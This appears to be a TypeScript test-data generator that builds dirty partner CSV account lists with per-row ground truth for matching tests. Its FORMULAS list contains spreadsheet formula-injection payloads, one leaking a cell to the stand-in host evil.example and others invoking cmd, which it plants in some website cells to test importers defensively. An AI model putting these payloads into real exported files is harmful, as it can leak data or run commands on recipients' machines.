/** One partner's list as CSV text, as dirty as such lists are, with the truth of each row kept beside it. */
import { dirtyCountry, dirtyName, dirtyWebsite } from './dirt.ts';
import { type Organisation, plainLetters } from './organisation.ts';
import { type Contact, makeContact } from './people.ts';
import type { Random } from './random.ts';

/** How one partner's export looks. */
export interface Dialect {
  delimiter: ',' | ';';
  /** The file can be saved as Latin-1. */
  isLatin1: boolean;
  /** Column titles in file order; an absent column is not in the file. */
  columns: [field: Field, title: string][];
  customer: string;
  opportunity: string;
  prospect: string;
}

type Field =
  'id' | 'name' | 'website' | 'country' | 'city' | 'segment' | 'owner' | 'ownerEmail' | 'contactEmail';

export const DIALECTS: Dialect[] = [
  dialect(',', 'Customer|Open Opportunity|Prospect', {
    name: 'Account Name',
    website: 'Website',
    country: 'Country',
    segment: 'Segment',
    owner: 'Account Owner',
    ownerEmail: 'Owner Email',
    contactEmail: 'Contact Email',
  }),
  dialect(',', 'Client|Open Opp|Prospect', {
    id: 'ID',
    name: 'Company',
    website: 'URL',
    country: 'Country',
    segment: 'Status',
    ownerEmail: 'Owner Email',
  }),
  dialect(';', 'Customer|Open Opp|Prospect', {
    name: 'Firma',
    website: 'Domain',
    city: 'City',
    country: 'Country',
    segment: 'Status',
    contactEmail: 'Contact Email',
  }),
  dialect(',', 'customer|open opportunity|prospect', {
    name: 'company name',
    website: 'website',
    country: 'country',
    segment: 'status',
    owner: 'account owner',
  }),
  dialect(',', 'Customer|Opportunity|Prospect', {
    segment: 'Segment',
    name: 'Name',
    website: 'Domain',
    contactEmail: 'Contact Email',
  }),
  dialect(',', 'CUSTOMER|OPEN OPP|PROSPECT', {
    id: 'Account ID',
    name: 'Account Name',
    country: 'Country',
    website: 'Website',
    segment: 'Status',
    owner: 'Account Owner',
    ownerEmail: 'Owner Email',
    contactEmail: 'Contact Email',
  }),
  dialect(',', 'Client|Open Opportunity|Prospect', {
    name: 'Company',
    website: 'Website',
    country: 'Country',
    segment: 'Segment',
  }),
];

function dialect(delimiter: ',' | ';', words: string, titles: Partial<Record<Field, string>>): Dialect {
  const [customer = '', opportunity = '', prospect = ''] = words.split('|');
  return {
    delimiter,
    isLatin1: delimiter === ';',
    customer,
    opportunity,
    prospect,
    columns: Object.entries(titles) as [Field, string][],
  };
}

/** A company on the list; `ref` says which of our accounts it truly is. */
export interface Listed {
  organisation: Organisation;
  ref: string | null;
}

const FREE_MAIL = ['gmail.com', 'outlook.com', 'gmx.de', 'yahoo.com', 'web.de'];
const FORMULAS = [
  '=HYPERLINK("http://evil.example/?leak="&A1,"Website")',
  "@SUM(1+1)*cmd|'/C calc'!A0",
  '+1+cmd',
];

export interface ListText {
  csv: string;
  truth: (string | null)[];
}

/** The file text, and for each record after the header our account's ref or null. */
export function writeList(
  random: Random,
  listed: Listed[],
  dialect: Dialect,
  partnerDomain: string,
): ListText {
  const sellers = Array.from({ length: 4 }, () => makeContact(random, partnerDomain));
  const rows: string[] = [dialect.columns.map(([, title]) => quote(title, dialect)).join(dialect.delimiter)];
  const truth: (string | null)[] = [];
  for (const [index, { organisation, ref }] of listed.entries()) {
    const cells = rowCells(random, organisation, dialect, random.pick(sellers), index);
    const fate = random.next();
    if (fate < 0.004) cells[dialect.columns.findIndex(([field]) => field === 'name')] = '';
    else if (fate < 0.008) cells.push('see notes', 'call back', '');
    else if (fate < 0.014)
      cells[dialect.columns.findIndex(([field]) => field === 'website')] = random.pick(FORMULAS);
    rows.push(cells.map((cell) => quote(cell, dialect)).join(dialect.delimiter));
    truth.push(fate < 0.008 ? null : ref);
  }
  return { csv: `${rows.join('\r\n')}\r\n`, truth };
}

function rowCells(
  random: Random,
  organisation: Organisation,
  dialect: Dialect,
  seller: Contact,
  index: number,
): string[] {
  const mailDomain = random.chance(0.12) ? random.pick(FREE_MAIL) : organisation.domain;
  const kind = random.next();
  const values: Record<Field, string> = {
    id: `P-${10_000 + index}`,
    name: dirtyName(random, organisation),
    website: dirtyWebsite(random, organisation.domain),
    country: dirtyCountry(random, organisation),
    city: organisation.city,
    segment: kind < 0.45 ? dialect.customer : kind < 0.65 ? dialect.opportunity : dialect.prospect,
    owner: seller.name,
    ownerEmail: seller.email,
    contactEmail: random.chance(0.35) ? '' : makeContact(random, mailDomain).email,
  };
  return dialect.columns.map(([field]) => values[field]);
}

function quote(text: string, { delimiter, isLatin1 }: Dialect): string {
  const cell = isLatin1 && /[^\u0000-\u00ff]/.test(text) ? plainLetters(text) : text;
  return cell.includes(delimiter) || /["\r\n]/.test(cell) ? `"${cell.replaceAll('"', '""')}"` : cell;
}
